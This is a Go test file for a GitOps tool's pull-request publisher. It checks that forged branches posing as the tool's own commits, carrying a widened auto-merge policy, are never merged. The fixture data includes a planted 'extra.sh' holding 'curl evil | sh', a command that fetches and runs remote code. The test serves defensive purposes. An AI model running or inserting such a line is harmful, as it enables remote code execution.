package githubpr

import (
	"strings"
	"testing"
	"time"

	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/cairn-dev/cairn/planner/plan"
	"github.com/cairn-dev/cairn/policies"
	"github.com/cairn-dev/cairn/publish"
	"github.com/cairn-dev/cairn/publish/githubpr/githubtest"
	"github.com/cairn-dev/cairn/testbed/gitbed"
)

// forgeBranch pushes to branch a commit on main that claims to be
// cairn's (its email "c@x" as publishMerging signs, its trailers), with
// the rendered folders of branch from (when set) and files.
func forgeBranch(t *testing.T, bare, branch, from string, files map[string]string) string {
	t.Helper()
	return gitbed.Forge(t, bare, branch, from, files, "cairn: e: Add e-3\n\nCairn-Cluster: EtcdCluster/e\nCairn-Step: etcd-add-3\n",
		object.Signature{Name: "cairn", Email: "c@x", When: time.Now()}).String()
}

const widenedPolicy = "apiVersion: cairn.dev/v1alpha1\nkind: AutoMerge\nkinds: [all]\n"

// A forged branch on GitHub (a valid-looking trailer, cairn's email) that
// carries more than cairn's rendering is never merged nor adopted, whether
// its pull request was opened by someone else before cairn published or
// the branch was pushed over cairn's own pull request: no merge call, a
// failing cairn/plan status on its head saying why, said once.
func TestAForgedBranchIsNeverMergedOnGitHub(t *testing.T) {
	branch := "cairn/e/etcd-add-3"
	merge := policies.Set{policies.AutoMerge{PolicyName: "e/auto-merge", Kinds: []plan.Kind{plan.EtcdAddMember}}}
	gates := func(plan.Plan) (bool, string) { return true, "" }
	tests := []struct {
		name  string
		setup func(t *testing.T, h *hub) string
	}{
		{"a pull request someone else opened first", func(t *testing.T, h *hub) string {
			sha := forgeBranch(t, h.bare, branch, "", map[string]string{"rendered/e/kustomization.yaml": "resources: [evil.yaml]\n", "policies/auto-merge.yaml": widenedPolicy})
			h.f.PRs = append(h.f.PRs, &githubtest.PR{Number: 1, State: "open", Title: "cairn: e: Add e-3", Body: "looks like cairn's",
				Head: githubtest.Ref{Ref: branch, SHA: sha, Repo: githubtest.RepoName{FullName: "o/r"}}, Base: githubtest.Ref{Ref: "main"}})
			return sha
		}},
		{"pushed over cairn's pull request", func(t *testing.T, h *hub) string {
			if o := h.one(); o.Action != publish.ActionOpened {
				t.Fatalf("%+v", o)
			}
			// Exactly cairn's rendering, and more.
			return forgeBranch(t, h.bare, branch, branch, map[string]string{"policies/auto-merge.yaml": widenedPolicy, "extra.sh": "curl evil | sh\n"})
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			h := newHub(t, etcdSpec)
			h.live = etcdLive
			gitbed.Commit(t, h.bare, map[string]string{"policies/auto-merge.yaml": "kinds: []\n"})
			forged := tc.setup(t, h)
			h.pols, h.gates = merge, gates
			o := h.one()
			if o.Action != publish.ActionForeign || !strings.Contains(o.Note, "not cairn's commit") {
				t.Fatalf("%+v", o)
			}
			st := h.f.Statuses[forged]
			if st["state"] != "failure" || st["context"] != publish.CheckContext || !strings.Contains(st["description"], "not cairn's commit") {
				t.Errorf("status of the forged head: %v", st)
			}
			if open := h.f.Open(); len(open) != 1 || !strings.Contains(open[0].Body, "is not a commit cairn made") || !strings.Contains(open[0].Body, "policies/auto-merge.yaml") {
				t.Errorf("pull requests: %+v", open)
			}
			// Said once: the next pass writes nothing.
			before := h.p.Counts()
			if o := h.one(); o.Action != publish.ActionForeign {
				t.Fatalf("%+v", o)
			}
			if c := h.p.Counts(); c.Writes != before.Writes {
				t.Errorf("writes on the second pass: %+v after %+v", c, before)
			}
			for call, n := range h.f.Calls {
				if strings.HasSuffix(call, "/merge") && n > 0 {
					t.Errorf("%s called %d times", call, n)
				}
			}
			if main := readMain(t, h.bare); main["rendered/e/kustomization.yaml"] != "" || main["policies/auto-merge.yaml"] != "kinds: []\n" || main["extra.sh"] != "" {
				t.Errorf("main took the forged commit: %v", main)
			}
			if h.f.HeadSHA(branch) != forged {
				t.Error("the forged head was pushed over")
			}
		})
	}
}
